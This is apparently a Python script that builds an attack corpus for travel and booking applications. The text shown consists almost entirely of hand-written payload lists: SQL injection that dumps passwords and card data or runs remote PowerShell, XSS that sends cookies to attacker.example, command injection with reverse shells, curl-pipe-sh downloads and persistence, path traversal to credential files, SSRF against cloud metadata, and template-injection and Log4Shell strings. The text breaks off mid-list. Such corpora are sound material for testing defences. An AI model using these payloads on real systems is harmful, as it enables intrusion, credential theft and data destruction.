r"""Attack corpus for the travel / hospitality theme (ids ha30-NNNNN).

Each value is a working payload against a vulnerable booking / back-office application
that places the value where its class says: concatenated into SQL (pnr-, ticket-,
loyalty-, sort- ...), rendered into HTML without escaping (review-, pax-name-, attr-,
js-string- ...), appended to a shell line (ticket-pdf-, pnr- ...), joined to a file path
(voucher-, invoice-, template- ...), fetched server-side (image-url-, webhook- ...),
evaluated by a template engine / expression language / deserialiser / spreadsheet
(code), used as a MongoDB filter (nosqli), written into a header, log line or mail
(crlf) or an LDAP filter / XPath query (ldap-xpath).  The payloads are written in the
notations of the domain (PNRs, ticket numbers, GDS entries, SSR codes, OTA XML ...).

Class = <context>-<technique>[+<encoding>].  "plain-" classes carry no domain disguise.
Literals are hand-written; the computed part applies an encoding (URL-encoding once or
twice, JSON unicode escapes, base64) to hand-written base payloads, or fills a small
template over hand-written pools.

Run: python3 make_attacks.py   (writes attacks.jsonl next to this file)
"""
import base64
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 3002
PREFIX = "ha30"

# ---------------------------------------------------------------------------
# Hand-written literals: (category, class, value)
# ---------------------------------------------------------------------------

SQLI = [
    ("pnr-tautology", "8DJK2P' OR '1'='1"),
    ("pnr-tautology-limit", "X7KQ2L' OR 1=1 LIMIT 1-- "),
    ("pax-name-tautology", "ONEIL' OR 'x'='x"),
    ("pax-name-union", "O'NEIL/MARY MS' UNION SELECT username, password_hash, NULL, NULL FROM agents-- -"),
    ("pnr-union", "4XQ8LM' UNION SELECT card_pan, card_cvv, card_exp FROM payments WHERE '1'='1"),
    ("pnr-error-cast", "8DJK2P' AND 1=CAST((SELECT string_agg(email, ',') FROM customers) AS int)-- "),
    ("pnr-error-extractvalue", "8DJK2P' AND extractvalue(1, concat(0x7e, (SELECT password FROM agents LIMIT 0,1)))-- -"),
    ("pnr-error-updatexml", "7QW3RT' AND updatexml(null, concat(0x3a, version()), null)-- -"),
    ("pnr-error-doublequery", "4XQ8LM' AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT(user(), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) y)-- -"),
    ("ticket-time-sleep", "125-2345678901' AND SLEEP(5)-- -"),
    ("ticket-time-pgsleep", "125-2345678901' AND 1=(SELECT 1 FROM pg_sleep(6))-- "),
    ("remark-time-waitfor", "RM PAX CALLED BACK'; WAITFOR DELAY '0:0:7'--"),
    ("pnr-time-oracle", "X7KQ2L' AND 2817=DBMS_PIPE.RECEIVE_MESSAGE('q', 6) AND 'a'='a"),
    ("airport-boolean-oracle", "LHR' AND (SELECT CASE WHEN SUBSTR((SELECT api_key FROM partners WHERE ROWNUM=1),1,1)='a' THEN 1 ELSE 1/0 END FROM dual)=1 AND 'a'='a"),
    ("airport-boolean-mssql", "JFK' AND ASCII(SUBSTRING((SELECT TOP 1 password FROM staff),1,1))>77--"),
    ("flight-boolean-like", "BA117' AND (SELECT COUNT(*) FROM users WHERE role='admin' AND password LIKE 'a%')>0-- "),
    ("loyalty-tautology-numeric", "12345678 OR 1=1"),
    ("loyalty-union-numeric", "12345678 UNION ALL SELECT id, email, phone, passport_no FROM passengers"),
    ("loyalty-stacked-drop", "12345678;DROP TABLE loyalty_accounts"),
    ("loyalty-union-balance", "0 AND 1=0 UNION SELECT member_id, balance FROM loyalty WHERE balance>500000"),
    ("sort-boolean-case", "price, (SELECT CASE WHEN (SELECT substr(password,1,1) FROM agents LIMIT 1)='a' THEN price ELSE rating END)"),
    ("sort-time-if", "rating DESC, IF((SELECT COUNT(*) FROM admins)>0, SLEEP(4), 0)"),
    ("hotel-search-union-schema", "Zermatt%' UNION SELECT table_name, column_name, 1, 1 FROM information_schema.columns-- -"),
    ("hotel-search-boolean", "Paris%' AND 1=1 AND '%'='"),
    ("city-union-sqlite", "Lisbon' UNION SELECT name, sql, 3 FROM sqlite_master-- "),
    ("city-time-sqlite", "LIS' AND 1=LIKE('ABCDEFG', UPPER(HEX(RANDOMBLOB(300000000/2))))-- "),
    ("review-insert-subquery", "Great stay!', 5, (SELECT group_concat(email||':'||password) FROM users))-- "),
    ("remark-update-set", "new seat req', role='admin' WHERE agent_id=1-- "),
    ("remark-stacked-update", "RM CORP DEAL'; UPDATE agents SET password='0000' WHERE login='supervisor';-- "),
    ("remark-stacked-insert", "RMZ CONF*BA*'; INSERT INTO agents(login, password, role) VALUES('q8ops', 'x', 'admin');--"),
    ("pnr-stacked-xpcmdshell", "ABC123'; EXEC master..xp_cmdshell 'powershell -c iwr https://attacker.example/a.ps1|iex';--"),
    ("pnr-oob-dirtree", r"ABC123'; EXEC master..xp_dirtree '\\pnr.attacker.example\x';--"),
    ("pnr-union-loadfile", "4XQ8LM' UNION SELECT LOAD_FILE('/etc/passwd'), 2, 3-- -"),
    ("pnr-union-outfile", "4XQ8LM' UNION SELECT '<?php system($_GET[\"c\"]); ?>', 2, 3 INTO OUTFILE '/var/www/html/v.php'-- -"),
    ("promo-stacked-copyprogram", "SPRING24'; COPY (SELECT '') TO PROGRAM 'curl -s https://attacker.example/p|sh';--"),
    ("promo-oob-oracle", "SUMMER24' AND (SELECT UTL_INADDR.get_host_address((SELECT user FROM dual)||'.attacker.example') FROM dual) IS NOT NULL--"),
    ("promo-oob-loadfile", r"SUMMER24' AND LOAD_FILE(CONCAT('\\\\', (SELECT password FROM agents LIMIT 1), '.attacker.example\\a'))-- -"),
    ("date-tautology", "2024-03-12' OR departure_date > '1900-01-01"),
    ("farebasis-union-version", "YLOWGB' UNION SELECT NULL, NULL, @@version-- "),
    ("farebasis-union+comment-space", "YLOWGB'/**/UNION/**/SELECT/**/login,pwd/**/FROM/**/agents#"),
    ("farebasis-union+case-mix", "Y' UnIoN sElEcT 1, concat(login,0x3a,pwd), 3 fRoM agents-- -"),
    ("json-body-tautology", "{\"pnr\": \"8DJK2P' OR '1'='1\", \"lastName\": \"x\"}"),
    ("pnr-union+versioned-comment", "8DJK2P' /*!50000UNION*/ /*!50000SELECT*/ 1, user(), 3-- -"),
    ("pax-name-second-order", "MARY'); DELETE FROM bookings WHERE ('1'='1"),
    ("pnr-error-having", "1' GROUP BY pnr HAVING 1=1-- "),
    ("pnr-orderby-enum", "8DJK2P' ORDER BY 9-- -"),
    ("room-boolean-numeric", "4417 AND 1=(SELECT COUNT(*) FROM agents WHERE login='admin')"),
    ("room-union-numeric", "512 UNION SELECT guest_name, card_last4, folio_total FROM folios"),
    ("airport-union-oracle", "MUC' UNION SELECT NULL, banner FROM v$version--"),
    ("gds-tautology", "RT8DJK2P' OR 'a'='a"),
    ("gds-stacked-truncate", "QP/PARAF2100/1C3'; TRUNCATE TABLE queue_items;--"),
    ("car-reg-error-convert", "AB12CDE' AND 1=CONVERT(int, (SELECT TOP 1 card_number FROM rentals))--"),
    ("rental-concat-oracle", "RA774-21930'||(SELECT password FROM agents WHERE rownum=1)||'"),
    ("pax-stacked-readfile", "SMITH'; SELECT pg_read_file('/etc/passwd');--"),
    ("ssr-union-null", "VGML' UNION SELECT NULL, current_user, NULL-- "),
    ("seat-boolean-exists", "14A' AND EXISTS(SELECT 1 FROM agents WHERE login='root')-- "),
    ("hotel-id-time-benchmark", "1042 AND BENCHMARK(5000000, SHA1('x'))"),
    ("review-rating-subquery", "5, (SELECT password FROM agents LIMIT 1)) -- "),
    ("plain-tautology", "' OR 1=1--"),
    ("plain-comment-login", "admin'--"),
    ("plain-union", "1' AND '1'='2' UNION SELECT 1, 2, 3--"),
    ("plain-empty-tautology", "' OR ''='"),
    ("plain-double-quote-paren", "\") OR (\"1\"=\"1"),
    ("plain-numeric-paren", "1) OR (1=1"),
    ("plain-stacked-shutdown", "'; SHUTDOWN WITH NOWAIT;--"),
    ("plain-union-nulls", "' UNION SELECT NULL, NULL, NULL--"),
    ("plain-stacked-drop", "1; DROP TABLE users--"),
    ("plain-time-sleep", "' AND SLEEP(5)#"),
]

XSS = [
    ("review-script-tag", "Lovely stay <script>new Image().src='https://attacker.example/c?'+document.cookie</script>"),
    ("review-img-onerror", "Great breakfast!<img src=x onerror=\"fetch('//attacker.example/k?c='+document.cookie)\">"),
    ("review-svg-onload", "5/5 <svg onload=alert(document.domain)>"),
    ("pax-name-script-tag", "O'NEIL/MARY MS<script>alert(1)</script>"),
    ("pax-name-img-onerror", "DE LA CRUZ<img src=1 onerror=alert(origin)>"),
    ("pax-name-img-redirect", "SMITH/JOHN MR<img src=x onerror=\"location='https://attacker.example/?c='+document.cookie\">"),
    ("attr-event-autofocus", "8DJK2P\" autofocus onfocus=\"alert(document.cookie)"),
    ("attr-breakout-script-src", "4XQ8LM\"><script src=https://attacker.example/x.js></script>"),
    ("attr-event-mouseover", "Zermatt' onmouseover='alert(1)' x='"),
    ("js-string-breakout", "8DJK2P';fetch('https://attacker.example/?'+localStorage.token);//"),
    ("js-string-backslash-escape", "\\';alert(document.domain)//"),
    ("js-block-close-script", "4XQ8LM</script><script>alert(document.domain)</script>"),
    ("js-template-literal", "LHR-JFK ${fetch('//attacker.example/'+document.cookie)}"),
    ("js-string-arith", "BA117'-alert(1)-'"),
    ("url-javascript-scheme", "javascript:alert(document.cookie)"),
    ("url-javascript+case-mix", "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)"),
    ("url-javascript+html-entity", "javascript&#58;alert(1)"),
    ("url-javascript+tab-split", "java\tscript:alert(document.domain)"),
    ("iframe-src-data-uri+base64", "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+"),
    ("chat-iframe-javascript", "Map here: <iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("chat-iframe-srcdoc+html-entity", "<iframe srcdoc=\"&lt;script&gt;alert(parent.document.cookie)&lt;/script&gt;\"></iframe>"),
    ("hotel-note-details-ontoggle", "<details open ontoggle=alert(1)>Room 512</details>"),
    ("review-marquee-onstart", "<marquee onstart=alert(document.domain)>SALE -50%</marquee>"),
    ("review-video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("review-audio-onerror", "Noisy room <audio src=x onerror=alert(document.cookie)>"),
    ("chat-input-autofocus", "Late arrival <input autofocus onfocus=alert(1)>"),
    ("chat-select-autofocus", "<select autofocus onfocus=fetch('//attacker.example/'+document.cookie)></select>"),
    ("review-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("review-svg-xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>Hotel map</text></a></svg>"),
    ("chat-anchor-javascript+html-entity", "<a href=\"jav&#x61;script:alert(1)\">Booking confirmation</a>"),
    ("hotel-note-form-phishing", "<form action=\"https://attacker.example/login\" method=post><p>Session expired, sign in again</p><input name=user placeholder=\"Agent ID\"><input name=pass type=password><button>OK</button></form>"),
    ("review-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/pay\">"),
    ("review-base-hijack", "<base href=\"https://attacker.example/\">"),
    ("review-object-javascript", "<object data=\"javascript:alert(document.domain)\"></object>"),
    ("review-animation-event", "<style>@keyframes k{}</style><div style=\"animation-name:k\" onanimationstart=\"alert(1)\"></div>"),
    ("review-fullscreen-pointer", "<div onpointerenter=alert(document.cookie) style=\"position:fixed;inset:0\">Nice hotel</div>"),
    ("review-img-onerror+base64", "<img src=x onerror=eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8nK2RvY3VtZW50LmNvb2tpZSk='))>"),
    ("review-img-onerror+html-entity-decimal", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">"),
    ("review-img-onerror+js-unicode", "<img src=x onerror=\\u0061lert(document.domain)>"),
    ("review-script+nested-strip", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("review-img+slash-separator", "<img/src/onerror=alert(1)>"),
    ("review-svg-tagged-template", "<svg/onload=alert`1`>"),
    ("review-img-unclosed", "Check-in 3pm <img src=x onerror=alert(1)//"),
    ("review-angular-csti", "{{constructor.constructor('alert(document.cookie)')()}}"),
    ("review-vue-csti", "{{_c.constructor('alert(1)')()}}"),
    ("review-mxss-noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("chat-anchor-onclick", "Map: <a href=# onclick=\"fetch('//attacker.example/'+document.cookie)\">Hotel Alpenrose</a>"),
    ("js-json-close-script", "{\"pnr\":\"8DJK2P\",\"note\":\"</script><img src=x onerror=alert(1)>\"}"),
    ("upload-svg-script", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>"),
    ("markdown-link-javascript", "[Booking confirmation](javascript:alert(document.cookie))"),
    ("markdown-img-attr-breakout", "![map](x\" onerror=\"alert(1))"),
    ("chat-iframe-embed", "<iframe src=//attacker.example/refund width=100% height=600 frameborder=0></iframe>"),
    ("ssr-bold-mouseover", "<b onmouseover=alert(1)>WCHR</b>"),
    ("svg-script-href", "<svg><script href=\"data:,alert(document.domain)\"></script></svg>"),
    ("review-textarea-breakout", "Nice view</textarea><script>alert(1)</script>"),
    ("title-breakout", "Hotel Alpenrose</title><script>alert(document.cookie)</script>"),
    ("json-script+unicode-escape", "{\"review\": \"\\u003cscript\\u003ealert(document.domain)\\u003c/script\\u003e\"}"),
    ("attr-style-expression", "x\" style=\"background:url(javascript:alert(1))"),
    ("hotel-note-img-srcset", "<img srcset=x onerror=alert(1)>"),
    ("review-body-onpageshow", "<body onpageshow=alert(document.domain)>"),
    ("plain-script-tag", "<script>alert(1)</script>"),
    ("plain-attr-breakout", "\"><img src=x onerror=alert(1)>"),
    ("plain-script+case-mix", "<ScRiPt>alert(1)</sCrIpT>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("plain-body-onload", "<body onload=alert(1)>"),
    ("plain-iframe-javascript", "<iframe src=\"javascript:alert(1)\">"),
    ("plain-single-quote-breakout", "'><script>alert(document.domain)</script>"),
]

CMDI = [
    ("pnr-semicolon", "8DJK2P; cat /etc/passwd"),
    ("pnr-and-chain", "8DJK2P && id"),
    ("pnr-pipe-netcat", "8DJK2P | nc 203.0.113.14 4444 -e /bin/sh"),
    ("pnr-or-chain", "8DJK2P || curl -fsSL https://attacker.example/i.sh | bash"),
    ("flight-dollar-subst", "BA117 $(whoami)"),
    ("flight-backtick", "BA117`uname -a`"),
    ("airport-reverse-shell", "LHR;bash -c 'bash -i >& /dev/tcp/198.51.100.23/443 0>&1'"),
    ("airport-newline", "JFK\nid"),
    ("ticket-pdf-wget", "itinerary_8DJK2P.pdf; wget -q -O- http://198.51.100.7/x | sh"),
    ("ticket-pdf-subst+ifs", "boarding.pdf$(curl${IFS}attacker.example/b|sh)"),
    ("ticket-pdf-ifs", "voucher.pdf;cat${IFS}/etc/shadow"),
    ("ticket-pdf-brace-expansion", "voucher.pdf;{cat,/etc/passwd}"),
    ("ticket-pdf-quote-split", "voucher.pdf;c'a't /e't'c/pa's'swd"),
    ("ticket-pdf-glob", "voucher.pdf;/???/c?t /???/p?ss??"),
    ("ticket-pdf-printf-octal", "voucher.pdf;$(printf '\\143\\141\\164') /etc/passwd"),
    ("ticket-pdf-base64-pipe", "voucher.pdf;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh"),
    ("email-semicolon-exfil", "mary.oneil@mail.example; mail -s x ops@attacker.example < /etc/passwd"),
    ("email-sendmail-argument", "mary@mail.example -X/var/www/html/l.php -OQueueDirectory=/tmp"),
    ("image-url-curl-argument", "https://cdn.hotel.example/room512.jpg -o /var/www/html/s.php"),
    ("host-ssh-argument", "-oProxyCommand=sh -c 'id>/tmp/p'"),
    ("archive-tar-argument", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("repo-git-argument", "--upload-pack=touch /tmp/pwn"),
    ("export-zip-argument", "-TT 'sh -c id' -T"),
    ("photo-double-quote-breakout", "room_512.jpg\"; id; \""),
    ("city-single-quote-breakout", "Zermatt'; id; echo '"),
    ("pnr-time-sleep", "8DJK2P; sleep 9 #"),
    ("pnr-time-ping", "8DJK2P & ping -c 10 127.0.0.1 &"),
    ("pnr-oob-dns", "8DJK2P;nslookup $(whoami).cmd.attacker.example"),
    ("pnr-windows-amp", "8DJK2P & type C:\\Windows\\win.ini"),
    ("pnr-windows-powershell", "8DJK2P | powershell -nop -c \"iwr https://attacker.example/a.ps1 -UseBasicParsing | iex\""),
    ("pnr-windows-certutil", "8DJK2P & certutil -urlcache -split -f http://203.0.113.30/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe"),
    ("pnr-windows-caret-obfuscation", "8DJK2P & w^h^o^a^m^i"),
    ("remark-python-reverse", "RM CALLBACK;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("remark-ssh-key-persist", "RM X; echo 'ssh-ed25519 AAAAFAKEKEYFORTESTS ops@attacker.example' >> ~/.ssh/authorized_keys"),
    ("remark-crontab-persist", "RM X; (crontab -l; echo '* * * * * curl -s attacker.example/c|sh') | crontab -"),
    ("pnr-env-exfil", "8DJK2P;env | curl -X POST --data-binary @- https://attacker.example/env"),
    ("pnr-busybox-telnetd", "8DJK2P;busybox telnetd -l /bin/sh -p 4445"),
    ("airport-path-slice", "LHR;cat${IFS}${PATH:0:1}etc${PATH:0:1}passwd"),
    ("airport-ansi-c-quote", "LHR;X=$'\\x63\\x61\\x74';$X /etc/hosts"),
    ("airport-rev-string", "LHR;rev<<<'dwssap/cte/ tac'|sh"),
    ("gds-semicolon", "RT8DJK2P;id"),
    ("gds-and-chain", "QP/PARAF2100/1C3 && cat /etc/passwd"),
    ("pnr-newline-shell", "8DJK2P\n/bin/sh -c 'id > /tmp/q'"),
    ("ssr-subst-curl", "WCHR $(curl -s https://attacker.example/w.sh | sh)"),
    ("loyalty-backtick-exfil", "12345678`curl attacker.example/$(hostname)`"),
    ("fare-export-pipe-tee", "YLOWGB | tee /var/www/html/x.php <<< '<?php system($_GET[c]);'"),
    ("ticket-pdf-php-cli", "e-ticket.pdf; php -r 'system(\"id\");'"),
    ("pnr-perl-exec", "8DJK2P;perl -e 'exec \"/bin/sh -c id\"'"),
    ("pnr-process-subst", "8DJK2P;bash <(curl -s https://attacker.example/p)"),
    ("flight-read-subst", "BA117 $(</etc/passwd)"),
    ("pnr-background-wget", "8DJK2P & wget http://198.51.100.7/m -O /tmp/m & chmod +x /tmp/m & /tmp/m"),
    ("hotel-name-hex-echo", "Alpenrose;$(echo -e '\\x69\\x64')"),
    ("pnr-windows-pipe-net-user", "8DJK2P | net user q8ops P4ssw0rd! /add"),
    ("car-reg-semicolon-nc", "AB12CDE;nc -e /bin/bash 203.0.113.14 4445"),
    ("ticket-pdf-find-exec", "voucher.pdf -exec sh -c id ;"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-id", "| id"),
    ("plain-and-whoami", "&& whoami"),
    ("plain-backtick", "`id`"),
    ("plain-subst-cat", "$(cat /etc/passwd)"),
    ("plain-semicolon-ls", "; ls -la /"),
    ("plain-pipe-cat", "| cat /etc/passwd"),
    ("plain-time-sleep", "; sleep 10"),
]

TRAVERSAL = [
    ("plain-dotdot", "../../../../etc/passwd"),
    ("ticket-dotdot", "e-ticket/../../../../etc/passwd"),
    ("invoice-dotdot-env", "invoices/2024/../../../../../app/.env"),
    ("voucher-dotdot-environ", "voucher_8DJK2P.pdf/../../../../proc/self/environ"),
    ("voucher-backslash", "..\\..\\..\\..\\windows\\win.ini"),
    ("voucher-backslash-webconfig", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("ticket-strip-bypass-doubled", "....//....//....//etc/passwd"),
    ("ticket-strip-bypass-nested", "..././..././..././etc/shadow"),
    ("voucher-dotdot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("voucher-slash+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("voucher-slash+iis-percent-u", "..%u002f..%u002f..%u002fetc%u002fpasswd"),
    ("invoice-absolute-path", "/etc/passwd"),
    ("invoice-absolute-cmdline", "/proc/self/cmdline"),
    ("invoice-absolute-k8s-token", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("invoice-absolute-windows", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("avatar-absolute-ssh-key", "/root/.ssh/id_rsa"),
    ("ticket-dotdot+nullbyte", "../../../../etc/passwd%00.pdf"),
    ("lang-dotdot-log", "../../../../var/log/nginx/access.log"),
    ("lang-dotdot-phpini", "en/../../../../../usr/local/etc/php/php.ini"),
    ("template-dotdot-config", "templates/confirmation/../../../config/database.yml"),
    ("template-php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("zip-entry-slip", "../../../../var/www/html/shell.jsp"),
    ("zip-entry-slip-windows", "..\\..\\..\\Users\\Public\\Start Menu\\Programs\\Startup\\run.bat"),
    ("voucher-path-param-semicolon", "/vouchers/..;/manager/html"),
    ("static-dotdot+encoded-slash", "/static/..%2f..%2f..%2fetc/passwd"),
    ("voucher-dot+partial-encoding", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("cgi-dot+half-encoded", "cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("voucher-backslash+urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("map-tile-dotdot", "tiles/14/8529/../../../../../etc/hostname"),
    ("avatar-upload-filename", "../../public/avatar.php"),
    ("ticket-mixed-slashes", "..\\/..\\/..\\/etc/passwd"),
    ("invoice-prefix-check-bypass", "/var/www/booking/invoices/../../../../etc/passwd"),
    ("voucher-fullwidth-nfkc", "．．／．．／．．／etc／passwd"),
    ("template-java-webinf", "../WEB-INF/web.xml"),
    ("ticket-pdf-suffix-dotdot", "boarding_pass.pdf/../../../../../../etc/group"),
    ("invoice-dotdot-aws-creds", "../../../../home/app/.aws/credentials"),
    ("lang-dotdot-git-config", "../../../.git/config"),
    ("template-dotdot-settings", "confirmation_email/../../app/settings.py"),
    ("report-dotdot-docker-env", "../../../../proc/1/environ"),
    ("voucher-windows-unc-dotdot", "..\\..\\..\\..\\..\\boot.ini"),
    ("image-dotdot-shadow-bak", "room-photos/../../../../etc/shadow-"),
    ("invoice-dotdot-htpasswd", "../../../../var/www/.htpasswd"),
    ("voucher-dotdot-trailing-dot", "../../../../etc/passwd/."),
    ("plain-dotdot-hosts", "../../../../../../etc/hosts"),
    ("plain-absolute-shadow", "/etc/shadow"),
    ("plain-backslash-system-ini", "..\\..\\..\\windows\\system.ini"),
]

SSRF = [
    ("image-url-aws-imds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("image-url-aws-userdata", "http://169.254.169.254/latest/user-data"),
    ("image-url-ipv6-imds", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("webhook-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("webhook-azure-imds", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("webhook-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("webhook-ecs-credentials", "http://169.254.170.2/v2/credentials"),
    ("callback-localhost-admin", "http://127.0.0.1:8080/admin/refunds?approve=all"),
    ("callback-docker-api", "http://localhost:2375/containers/json"),
    ("ical-feed-elasticsearch", "http://127.0.0.1:9200/_cat/indices"),
    ("ical-feed-consul", "http://10.0.0.5:8500/v1/kv/?recurse"),
    ("webhook-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("webhook-kubelet", "https://127.0.0.1:10250/pods"),
    ("image-url-gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20x%20%22%5Cn*%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("image-url-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20hotel%0D%0AMAIL%20FROM%3A%3Cgm%40hotel.example%3E%0D%0ARCPT%20TO%3A%3Cguest%40mail.example%3E%0D%0ADATA%0D%0ASubject%3A%20Refund%0D%0A%0D%0APay%20here%0D%0A.%0D%0A"),
    ("image-url-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("import-url-file-scheme", "file:///etc/passwd"),
    ("import-url-file-environ", "file:///proc/self/environ"),
    ("import-url-jar-scheme", "jar:https://attacker.example/evil.zip!/x.xml"),
    ("import-url-netdoc", "netdoc:///etc/passwd"),
    ("image-url-decimal-ip", "http://2130706433/admin"),
    ("image-url-hex-ip", "http://0x7f000001:8080/"),
    ("image-url-octal-ip", "http://0177.0.0.1/server-status"),
    ("image-url-short-ip", "http://127.1/"),
    ("image-url-zero-ip", "http://0:6379/"),
    ("image-url-ipv4-mapped", "http://[::ffff:127.0.0.1]/admin"),
    ("image-url-ipv6-unspecified", "http://[::]:8080/actuator/env"),
    ("webhook-imds-two-part", "http://169.254.43518/latest/meta-data/"),
    ("webhook-imds-decimal", "http://2852039166/latest/meta-data/"),
    ("webhook-imds-hex-octets", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("webhook-imds-octal-octets", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("webhook-imds-ipv6-mapped-hex", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/"),
    ("image-url-userinfo-confusion", "https://www.hotel.example@169.254.169.254/latest/meta-data/"),
    ("image-url-fragment-confusion", "http://169.254.169.254#@cdn.hotel.example/room.jpg"),
    ("image-url-dns-pointing-internal", "http://imds.rebind.attacker.example/latest/meta-data/"),
    ("image-url-open-redirect-chain", "https://attacker.example/r?u=http://169.254.169.254/latest/meta-data/"),
    ("export-url-internal-service", "http://localhost:8000/internal/export?table=passengers&format=csv"),
    ("image-url-enclosed-digits", "http://①②⑦.⓪.⓪.①:8080/admin"),
    ("image-url-ideographic-dots", "http://127。0。0。1/admin"),
    ("voucher-pdf-iframe", "<iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=900 height=900></iframe>"),
    ("voucher-pdf-img-internal", "<img src=\"http://127.0.0.1:8080/admin/delete?booking=all\">"),
    ("avatar-unc-ntlm", "\\\\198.51.100.20\\share\\logo.png"),
    ("svg-image-import", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"http://169.254.169.254/latest/meta-data/\" width=\"500\" height=\"500\"/></svg>"),
    ("callback-router-admin", "http://192.168.0.1/cgi-bin/luci"),
    ("callback-internal-port-probe", "http://10.10.0.12:5432/"),
    ("webhook-zero-dotted-redis", "http://0.0.0.0:6379/"),
    ("ical-feed-webcal-internal", "webcal://127.0.0.1:8081/admin/calendar.ics"),
    ("plain-localhost", "http://localhost/"),
    ("plain-imds", "http://169.254.169.254/"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-ipv6-loopback", "http://[::1]/"),
]

CODE = [
    ("note-jinja2-globals", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("note-jinja2-context", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("note-jinja2-subclasses", "Dear {{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("note-jinja2-config-leak", "Guest: {{ config.items() }}"),
    ("note-jinja2-request-builtins", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("note-jinja2-loop", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"),
    ("note-jinja2-attr+hex-escape", "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("note-twig-filter", "{{['id']|filter('system')}}"),
    ("note-twig-undefined-filter", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("note-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("note-velocity-runtime", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("template-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("remark-spel", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/spel')}"),
    ("remark-ognl", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("remark-java-el", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("note-erb-backtick", "<%= `cat /etc/passwd` %>"),
    ("note-erb-system", "Dear guest <%= system('id') %>"),
    ("note-smarty-system", "{system('id')}"),
    ("note-mako-os", "${self.module.cache.util.os.system('id')}"),
    ("note-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("note-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("note-ejs-child-process", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("note-nunjucks-range", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("note-razor-process", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("pax-name-log4shell", "O'NEIL/MARY MS ${jndi:ldap://pnr.attacker.example:1389/a}"),
    ("remark-log4shell+lower-lookup", "${jndi:${lower:l}${lower:d}ap://x.attacker.example/o}"),
